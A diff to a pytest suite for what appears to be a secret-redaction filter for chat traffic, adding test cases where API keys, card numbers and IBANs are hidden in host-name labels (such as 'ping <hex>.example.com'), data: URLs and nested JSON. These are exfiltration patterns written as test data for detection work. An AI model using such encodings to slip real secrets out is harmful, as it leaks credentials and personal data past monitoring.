@@ -68,6 +68,9 @@ TABLE = {
     "D11 base32": base64.b32encode(f"my key {AWS}".encode()).decode(),
     "D13 decimal codes": ", ".join(str(ord(char)) for char in AWS),
     "D14 gzip in base64": base64.b64encode(gzip.compress(f"key {AWS}".encode())).decode(),
+    "D20 base32 in a host name": f"https://{base64.b32encode(f'key {AWS}'.encode()).decode().lower().rstrip('=')}.test",
+    "D21 hex in a host name": f"ping {AWS.encode().hex()}.example.com",
+    "D22 base64 in a host name": f"{base64.urlsafe_b64encode(f'k={AWS}'.encode()).decode().rstrip('=')}.example.com",
     "D18 percent-encoding twice": percent(percent(CARD)),
     "D19 percent-encoding thrice": percent(percent(percent(CARD))),
     "E01 spaces": "5500 0000 0000 0004",
@@ -134,6 +137,12 @@ TABLE = {
     "spelled key with its hyphens": between(" ", ANTHROPIC),
     "lower-case base32": base64.b32encode(f"key {AWS}".encode()).decode().lower(),
     "zero width in base64": between("\u200b", b64(f"ma clé {AWS}")),
+    "a data: URL": f"voir data:text/plain;base64,{b64(f'carte {CARD}')} ici",
+    "a data: URL with parameters": f"<a href='data:text/html;charset=utf-8;base64,{b64(f'<p>{IBAN}</p>')}'>x</a>",
+    "a data: URL, percent-encoded": f"voir data:text/plain,{percent(MAIL)} ici",
+    "a data: URL of compressed text": "x data:application/gzip;base64,"
+    + base64.b64encode(gzip.compress(f"key {AWS}".encode())).decode(),
+    "escapes in JSON in JSON": json.dumps({"a": json.dumps({"b": "clé " + wide(AWS)})}),
 }
 SENTENCES: dict[str, Callable[[str], str]] = {
     "alone": lambda text: text,
@@ -144,7 +153,7 @@ SENTENCES: dict[str, Callable[[str], str]] = {
 
 @pytest.fixture(scope="module")
 def trial() -> Trial:
-    return Trial(load(Path(__file__).parent.parent.parent / "rules"), Settings())
+    return Trial(load(Path(__file__).parent.parent.parent / "rules"), Settings(nlp="none"))
 
 
 def tried(trial: Trial, body: object) -> dict[str, object]:
@@ -168,6 +177,42 @@ def test_a_disguised_value_does_not_leave(trial: Trial, text: str, sentence: Cal
     assert "[[" in sent
     # all of the disguise is gone but what may stand around a value in a blob's or a sentence's words
     assert not any(text[at : at + len(text) // 2] in sent for at in range(0, len(text) // 2 + 1))
+
+
+@pytest.mark.parametrize("value", [CARD, IBAN, AWS, ANTHROPIC, MAIL])
+@pytest.mark.parametrize("mark", ["\n", "\t", "\r\n"], ids=["line end", "tab", "Windows line end"])
+@pytest.mark.parametrize("depth", [1, 2, 3])
+def test_a_value_behind_an_escape_in_pasted_json_is_hidden_whole(
+    trial: Trial, value: str, mark: str, depth: int
+) -> None:
+    text = f"ligne{mark}{value}{mark}fin"
+    for _ in range(depth):
+        text = json.dumps({"log": text})
+
+    result = tried(trial, chat(text))
+    assert result["verdict"] == "redact"
+    sent = json.loads(str(result["body"]))["messages"][0]["content"]
+    assert value not in sent
+    for _ in range(depth):  # and the JSON is still JSON
+        sent = json.loads(sent)["log"]
+    assert sent.startswith(f"ligne{mark}[[")
+    assert sent.endswith(f"]]{mark}fin")
+
+
+LABELS = {
+    "base32": base64.b32encode(f"my key {AWS}".encode()).decode().lower().rstrip("="),
+    "base64": base64.urlsafe_b64encode(f"my key is {AWS}, ok".encode()).decode().rstrip("="),
+    "hex": f"my key {AWS}".encode().hex(),
+}
+
+
+@pytest.mark.parametrize("blob", LABELS.values(), ids=LABELS)
+def test_a_value_encoded_over_the_labels_of_a_host_name_is_found(trial: Trial, blob: str) -> None:
+    labels = ".".join(blob[at : at + 20] for at in range(0, len(blob), 20))
+    result = tried(trial, chat(f"ping {labels}.exemple.fr"))
+
+    assert result["classification"] == "secret"
+    assert blob[:20] not in str(result["body"])
 
 
 SPLIT = {
@@ -208,6 +253,21 @@ def test_layers_without_end_are_refused(trial: Trial) -> None:
     assert (result["verdict"], result["uninspectable"]) == ("block", ["disguise-budget"])
 
 
+NOT_UNDONE = {
+    "D16 ascii85": base64.a85encode(f"key {AWS}".encode()).decode(),
+    "D17 Morse": ".- -.- .. .- --.. --.- ...-- -.. .-. ... - ..- ...- .-- -..- -.-- ..--- ...-- ....- .....",
+    "E14 an address in words": "camille.durand [at] exemple [dot] fr",
+}
+"""What nobody takes for its value by a rule, and a person can still say in words: the documented limit."""
+
+
+@pytest.mark.parametrize("text", NOT_UNDONE.values(), ids=NOT_UNDONE)
+def test_what_is_not_undone_costs_nobody_an_answer(trial: Trial, text: str) -> None:
+    result = tried(trial, chat(text))
+
+    assert (result["verdict"], result["findings"], result["uninspectable"]) == ("allow", [], [])
+
+
 BENIGN = {
     "a digest": "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
     "a UUID": "id 123e4567-e89b-12d3-a456-426614174000",
@@ -218,6 +278,8 @@ BENIGN = {
     "percent signs": "50% de 100%20 ; a%20b?x=%C3%A9",
     "an entity": "<p>Fish &amp; chips&nbsp;: 12 &euro;</p>",
     "counting": "Un, deux, trois, quatre, cinq, six, sept, huit, neuf, dix, onze, douze.",
+    "a path of Windows": "C:\\temp\\notes\\readme.txt et D:\\net\\rapport\\2026",
+    "LaTeX": "\\textbf{résumé} de \\newline \\ref{eq:12} : $\\nu = \\frac{1}{2}$",
     "a matrix": "1 0 0 1\n0 1 1 0\n1 1 0 0",
 }
 
